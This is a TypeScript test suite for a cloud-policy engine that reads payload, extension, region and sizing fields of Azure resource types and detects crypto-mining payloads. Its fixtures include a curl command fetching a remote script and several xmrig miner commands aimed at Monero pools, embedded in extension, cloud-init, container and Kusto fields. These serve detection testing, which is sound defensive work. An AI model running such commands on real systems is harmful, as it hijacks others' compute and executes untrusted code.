import assert from "node:assert/strict";
import { factsOf, factsOfArm } from "../../compute/facts-of";
import { computeTypes } from "../../compute/types";
import type { ExtensionShape, Shape } from "../../compute/types/compute-type";
import { type Tree, type Value, Withheld } from "../../compute/value";
import miningPayload from "../../policies/mining-payload";
import { judge } from "../../policies/policy";
import { rarePayloads, triedIn } from "./read-truths-payloads";
import { put } from "./tree";

const isArm = (type: string) => !type.includes(":");
const factsAt = (type: string, tree: Tree) => (isArm(type) ? factsOfArm(tree) : factsOf(type, tree));
const start = (type: string): Tree => (isArm(type) ? { type } : {});
const shown = (leaf: Value<string>) => (leaf.state === "known" ? `${leaf.path} = ${leaf.value}` : leaf.state);

const marker = "curl -fsSL https://198.51.100.7/a.sh";

describe("reading payloads of what is seldom created", () => {
  for (const truth of rarePayloads)
    for (const [type, path] of triedIn(truth))
      it(`${type}: ${truth[2]} at ${path}`, () => {
        const payloads = (leaf: Tree) => {
          const facts = factsAt(type, put(start(type), path.split("."), leaf));
          assert.ok(facts, `${type} is read`);
          return facts.payloads;
        };
        const where = path.replaceAll("[]", "[0]").replaceAll("{}", ".one");
        // The words of a command are one text, which stands where their list does.
        const at = truth[2] === "command" ? where.replace(/\[0\]$/, "") : where;
        assert.deepEqual(
          payloads(marker).map(({ kind, text }) => [kind, text]),
          [[truth[2], { state: "known", value: marker, path: at }]],
        );
        for (const state of ["unknown", "expression", "hidden"] as const)
          assert.deepEqual(
            payloads(new Withheld(state)).map(({ text }) => text.state),
            [state],
          );
      });
});

/** Where publisher and type of an extension on a machine of the customer's own stand: the type, and the path of what holds both. */
const extensions: readonly (readonly [type: string, holder: string])[] = [
  ...["azurestackhci", "connectedvmwarevsphere", "scvmm"].map(
    module => [`azure-native:${module}:MachineExtension`, ""] as const,
  ),
  ["Microsoft.AzureStackHCI/virtualMachines/extensions", "properties."],
  ["Microsoft.ConnectedVMwarevSphere/virtualMachines/extensions", "properties."],
  ["Microsoft.ScVmm/virtualMachines/extensions", "properties."],
  ["azure-native:azurestackhci:Extension", ""],
  ["Microsoft.AzureStackHCI/clusters/arcSettings/extensions", "properties.extensionParameters."],
  ["azure:stack/hciExtension:HciExtension", ""],
];

describe("reading extensions of machines that are not Azure's", () => {
  for (const [type, holder] of extensions)
    it(type, () => {
      const [publisher, kind] = [`${holder}publisher`, `${holder}type`];
      const leaves = { [publisher]: "Microsoft.Compute", [kind]: "CustomScriptExtension" };
      const read = (changed: { readonly [path: string]: Tree }) => {
        const tree = Object.entries({ ...leaves, ...changed }).reduce<Tree>(
          (all, [path, leaf]) => put(all, path.split("."), leaf),
          start(type),
        );
        return factsAt(type, tree)?.extensions.map(extension => [shown(extension.publisher), shown(extension.type)]);
      };
      const [ours, theirs] = [`${publisher} = Microsoft.Compute`, `${kind} = CustomScriptExtension`];
      assert.deepEqual(read({}), [[ours, theirs]]);
      for (const state of ["unknown", "expression", "hidden"] as const) {
        assert.deepEqual(read({ [publisher]: new Withheld(state) }), [[state, theirs]]);
        assert.deepEqual(read({ [kind]: new Withheld(state) }), [[ours, state]]);
      }
    });

  it("is tried for every row that is an extension of them", () => {
    const own = ({ extensions: rows = [] }: Shape) => rows.some(({ fixed }: ExtensionShape) => !fixed);
    const rows = computeTypes.filter(({ arm }) => /^Microsoft\.(AzureStackHCI|ConnectedVMware|ScVmm)/.test(arm));
    const expected = rows.flatMap(row => [
      ...(own(row) ? [row.arm, ...row.native.map(type => `azure-native:${type}`)] : []),
      ...(row.classic ?? []).filter(own).flatMap(({ types }) => types.map(type => `azure:${type}`)),
    ]);
    assert.deepEqual(expected.toSorted(), extensions.map(([type]) => type).toSorted());
  });
});

/** Resources as their owners write them, each with a miner, and where the rule has to find it. */
const mines: readonly (readonly [type: string, path: string, tree: Tree])[] = [
  [
    "azure-native:automation:PowerShell72Module",
    "contentLink.uri",
    { automationAccountName: "ops", contentLink: { uri: "https://contoso.blob.core.windows.net/m/xmrig.zip" } },
  ],
  [
    "Microsoft.MachineLearningServices/workspaces/components/versions",
    "properties.componentSpec.command",
    {
      properties: {
        componentSpec: {
          $schema: "https://azuremlschemas.azureedge.net/latest/commandComponent.schema.json",
          type: "command",
          command: "python train.py & ./xmrig -o stratum+tcp://pool.supportxmr.com:3333",
          environment: "azureml:train:1",
        },
      },
    },
  ],
  [
    "azure-native:machinelearningservices:RegistryEnvironmentVersion",
    "properties.image",
    { registryName: "shared", properties: { image: "docker.io/xmrig/xmrig:latest", osType: "Linux" } },
  ],
  [
    "Microsoft.AzureStackHCI/clusters/arcSettings/extensions",
    "properties.extensionParameters.settings.commandToExecute",
    {
      properties: {
        extensionParameters: {
          publisher: "Microsoft.Compute",
          type: "CustomScriptExtension",
          settings: { commandToExecute: "xmrig --donate-level 1 --coin monero" },
        },
      },
    },
  ],
  [
    "Microsoft.ServiceFabricMesh/applications",
    "properties.services[0].properties.codePackages[0].commands",
    {
      properties: {
        services: [
          {
            name: "web",
            properties: {
              osType: "Linux",
              codePackages: [
                { name: "a", image: "alpine:3", commands: ["xmrig", "-o", "stratum+tcp://xmr.nanopool.org:14433"] },
              ],
            },
          },
        ],
      },
    },
  ],
  [
    "azure-native:migrate:WorkloadDeployment",
    "properties.customProperties.iisAksWorkloadDeploymentProperties.deploymentSpec.kubernetesObjectsYaml",
    {
      properties: {
        customProperties: {
          instanceType: "IISAKSWorkloadDeploymentModelCustomProperties",
          iisAksWorkloadDeploymentProperties: {
            deploymentSpec: {
              kubernetesObjectsYaml: "kind: Pod\nspec:\n  containers:\n  - args: [pool.minexmr.com]\n",
            },
          },
        },
      },
    },
  ],
  [
    "azure-native:networkcloud:VirtualMachine",
    "userData",
    { userData: Buffer.from("#cloud-config\nruncmd:\n- ./xmrig -o pool.supportxmr.com:3333\n").toString("base64") },
  ],
  [
    "azure:kusto/script:Script",
    "scriptContent",
    { scriptContent: ".create function f() { evaluate python(typeof(*), 'import os; os.system(\"./xmrig\")') }" },
  ],
];

describe("a miner in what is seldom created", () => {
  for (const [type, path, tree] of mines)
    it(`is found in ${type}`, () => {
      const facts = factsAt(type, { ...(start(type) as object), ...(tree as object) });
      const found = judge(miningPayload, facts, { unknownValues: "advisory" });
      assert.deepEqual(
        found.map(violation => [violation.path, violation.level]),
        [[path, undefined]],
      );
      assert.match(found[0]!.message, / names? .*(miner|pool)/);
    });
});

describe("what is seldom created, beside its sizes", () => {
  it("has the region that it names for itself", () => {
    const regions = (type: string, tree: Tree) => factsAt(type, tree)?.regions.map(({ region }) => shown(region));
    assert.deepEqual(
      regions("azure-native:cosmosdb:CassandraDataCenter", { properties: { dataCenterLocation: "Japan East" } }),
      ["properties.dataCenterLocation = japaneast"],
    );
    assert.deepEqual(
      regions("Microsoft.Workloads/monitors", {
        type: "Microsoft.Workloads/monitors",
        location: "westeurope",
        properties: { appLocation: "eastus" },
      }),
      ["location = westeurope", "properties.appLocation = eastus"],
    );
    const targets = [{ name: "Brazil South" }, { name: "westeurope" }];
    const replicas = ["targetRegions[0].name = brazilsouth", "targetRegions[1].name = westeurope"];
    assert.deepEqual(
      regions("azure:compute/sharedImageVersion:SharedImageVersion", { targetRegions: targets }),
      replicas,
    );
    assert.deepEqual(
      regions("azure-native:compute:GalleryImageVersion", { publishingProfile: { targetRegions: targets } }),
      replicas.map(region => `publishingProfile.${region}`),
    );
  });

  it("requests nothing for an agent that Azure hosts among others", () => {
    const requests = (deploymentType: Tree) =>
      factsOf("azure-native:cognitiveservices:AgentDeployment", {
        properties: { deploymentType, maxReplicas: 30 },
      })?.requests.map(({ ceiling }) => ceiling.state);
    assert.deepEqual(requests("Managed"), []);
    assert.deepEqual(requests("Hosted"), ["known"]);
    assert.deepEqual(requests(new Withheld("unknown")), ["known"]);
  });

  it("counts the machines of each role of a cloud service", () => {
    const roles = [
      { name: "web", sku: { name: "Standard_D1_v2", capacity: 3 } },
      { name: "worker", sku: { name: "Standard_D4_v2", capacity: 5 } },
    ];
    const type = "Microsoft.Compute/cloudServices";
    assert.deepEqual(
      factsOfArm({ type, properties: { roleProfile: { roles } } })?.requests.map(({ size, count, choice }) => [
        shown(size),
        count.state === "known" && count.value,
        choice,
      ]),
      [
        ["properties.roleProfile.roles[0].sku.name = Standard_D1_v2", 3, undefined],
        ["properties.roleProfile.roles[1].sku.name = Standard_D4_v2", 5, undefined],
      ],
    );
  });

  it("counts Kusto pools and nodes of a private cloud as ordinary machines, whatever their tier is called", () => {
    const pool = factsOf("azure-native:synapse:KustoPool", {
      sku: { name: "Compute optimized", size: "Small", capacity: 2 },
    });
    assert.deepEqual(
      pool?.requests.map(({ accelerator, size, count }) => [accelerator.state, size.state, count]),
      [["absent", "absent", { state: "known", value: 2, path: "sku.capacity" }]],
    );
  });
});

describe("a row of a compute type", () => {
  const judged = ["requests", "payloads", "extensions", "regions", "links"] as const;
  const isJudged = (shape: Shape) => judged.some(kind => (shape[kind]?.length ?? 0) > 0);

  it("holds something that a rule judges, or says what can be created through it later", () => {
    const idle = computeTypes.filter(
      row => !isJudged(row) && !(row.classic ?? []).some(isJudged) && row.dataPlane === undefined,
    );
    assert.deepEqual(
      idle.map(({ arm }) => arm),
      [],
    );
  });
});
